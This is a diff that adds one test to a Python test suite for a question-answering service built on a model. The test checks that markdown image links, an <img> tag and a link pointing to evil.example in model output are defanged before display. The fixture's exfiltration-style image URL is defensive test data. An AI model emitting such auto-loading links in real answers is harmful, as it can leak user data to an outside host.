@@ -182,6 +182,14 @@ async def test_what_rests_on_nothing_becomes_the_one_sentence(
     assert answer.mode == "claude"
 
 
+async def test_what_the_model_writes_loads_and_links_nothing(service: AnswerService, claude: FakeClaude) -> None:
+    leak = "![](https://evil.example/?q=node) <img src=x> [more](https://evil.example). "
+    claude.says(lambda body: [wire.text(leak), *wire.default_content(body)])
+    answer = await ask(service, "What is a node?")
+    assert answer.grounded
+    assert answer.text.startswith("![] (…) < img src=x> [more] (…). According to the book: ")
+
+
 async def test_a_refusal_by_the_model_is_the_one_sentence(service: AnswerService, claude: FakeClaude) -> None:
     claude.says(wire.default_content, stop_reason="refusal")
     assert is_refusal(await ask(service, "What is a node?"))
